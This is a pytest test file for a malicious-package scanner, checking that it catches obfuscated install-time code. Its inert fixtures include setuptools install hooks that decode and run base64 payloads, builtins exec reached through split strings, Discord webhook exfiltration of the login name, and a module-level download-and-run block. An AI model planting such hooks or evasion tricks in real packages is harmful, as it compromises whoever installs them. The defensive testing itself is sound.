"""Rules 36: code read as Python reads it, however it is spelled or placed.

From rewriting held development samples the way evasive uploads rewrite code
(``benchmarks/scan_mutations.py``) and reading what the scan then lost:

- a name is read where Python finds it: a function nested in another (a method of a class
  made inside a function) reads its enclosing function's names, and a function that
  declares a name ``global`` binds it at module level;
- a string built of literals (``"buil" + "tins"``, ``"..."[::-1]``) is read as what it
  builds wherever it stands: a module named to ``__import__`` or ``eval``, a payload handed
  to the file's own decoder, a literal that decodes to code;
- a module that ``__init__`` imports runs the blocks at its top level (``if not
  isfile(path):``) and the calls whose values it assigns, as surely as unindented calls.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import pytest

from tests.support.archives import pkg_info, sdist
from tests.support.scan import SETUP_CALL, judge, judge_setup_script

#: The payload is text only a decoder makes code of: ``print(1)`` in base64.
PAYLOAD = "cHJpbnQoMSk="
SCOPES = {
    "closure": (
        "import base64, subprocess\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "def main():\n"
        f"    code = {PAYLOAD!r}\n"
        "    class Post(install):\n"
        "        def run(self):\n"
        "            subprocess.Popen(['python', '-c', base64.b64decode(code).decode()])\n"
        "            install.run(self)\n"
        "    setup(name='demo', version='1.0', cmdclass={'install': Post})\n"
        "main()\n"
    ),
    "global": (
        "import base64, subprocess\n"
        "from setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "def prepare():\n"
        "    global code\n"
        f"    code = {PAYLOAD!r}\n"
        "class Post(install):\n"
        "    def run(self):\n"
        "        subprocess.Popen(['python', '-c', base64.b64decode(code).decode()])\n"
        "        install.run(self)\n"
        "prepare()\n"
        "setup(name='demo', version='1.0', cmdclass={'install': Post})\n"
    ),
}


@pytest.mark.parametrize("setup", SCOPES.values(), ids=SCOPES.keys())
def test_a_payload_bound_in_another_scope_is_followed_to_its_decoder(setup: str) -> None:
    files = {
        "setup.py": setup,
        "PKG-INFO": pkg_info("demo"),
        "demo/__init__.py": "def f():\n    return 1\n",
    }
    rules, held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert rules.get("decode-exec") == 10
    assert held


def test_a_local_name_of_another_function_is_not_the_one_read() -> None:
    """``code`` bound in ``helper`` is ``helper``'s alone: ``run`` reads a module name."""
    setup = SCOPES["closure"].replace("def main():", "def helper():\n    code = 1\ndef main():")
    setup = setup.replace(f"    code = {PAYLOAD!r}\n", "")
    files = {
        "setup.py": setup,
        "PKG-INFO": pkg_info("demo"),
        "demo/__init__.py": "def f():\n    return 1\n",
    }
    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "decode-exec" not in rules


#: Install-time code written the way rewriting tools write it: every string in pieces or
#: backwards. ``BLOB`` is ``exec(1)``'s text in base64, in two halves.
SPELLED = {
    "module-in-pieces": (
        "import base64\n__import__('buil' + 'tins').exec(base64.b64decode('ZXhlYy' + 'gxKQ=='))\n"
    ),
    "payload-in-pieces": (
        "import base64, subprocess\n"
        "def decode(text):\n"
        "    return base64.b64decode(text).decode()\n"
        "subprocess.Popen([decode('cHl0aG9u' + 'IC1jIDE=')], shell=True)\n"
    ),
    "webhook-in-pieces": (
        "import os, requests\n"
        "HOOKS = {'main': 'https://discord.com/api/web' + 'hooks/1234567890/abcdefghijklmnop'}\n"
        "requests.post(HOOKS['main'], json={'u': os.getlogin()})\n"
    ),
    "webhook-backwards": (
        "import os, requests\n"
        "HOOKS = ['ponmlkjihgfedcba/0987654321/skoohbew/ipa/moc.drocsid//:sptth'[::-1]]\n"
        "requests.post(HOOKS[0], json={'u': os.getlogin()})\n"
    ),
}


@pytest.mark.parametrize("code", SPELLED.values(), ids=SPELLED.keys())
def test_strings_spelled_in_pieces_or_backwards_read_as_what_python_builds(code: str) -> None:
    rules, held = judge_setup_script(code + SETUP_CALL)
    assert held, rules
    assert {"decode-exec", "phone-home", "exfil-sink"} & rules.keys()


#: A module the package's ``__init__`` imports, whose download and run sit in a block at
#: module level: they run on import as surely as unindented code.
IN_A_BLOCK = (
    "from urllib import request\n"
    "from os import getenv, system\n"
    "from os.path import isfile\n"
    "path = getenv('TEMP') + '/cache.py'\n"
    "if not isfile(path):\n"
    "    script = request.urlopen('https://cdn.example.net/a.txt').read().decode()\n"
    "    with open(path, 'w') as f:\n"
    "        f.write(script)\n"
    "    system(f'start pythonw {path}')\n"
)


@pytest.mark.parametrize("init", ["from ._core import *\n", "from . import _core\n"])
def test_an_imported_modules_block_at_module_level_is_read_as_import_code(init: str) -> None:
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
        "PKG-INFO": pkg_info("demo"),
        "demo/__init__.py": init,
        "demo/_core.py": IN_A_BLOCK,
    }
    rules, held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert rules.get("drop-run") == 10
    assert held


def test_a_main_block_of_an_imported_module_is_not_import_code() -> None:
    """``if __name__ == "__main__":`` runs when the module is run, not when imported."""
    files = {
        "setup.py": "from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
        "PKG-INFO": pkg_info("demo"),
        "demo/__init__.py": "from ._core import *\n",
        "demo/_core.py": IN_A_BLOCK.replace("if not isfile(path):", "if __name__ == '__main__':"),
    }
    rules, _held = judge(sdist(files, root="demo-1.0"), "demo-1.0.tar.gz")
    assert "import-network" not in rules
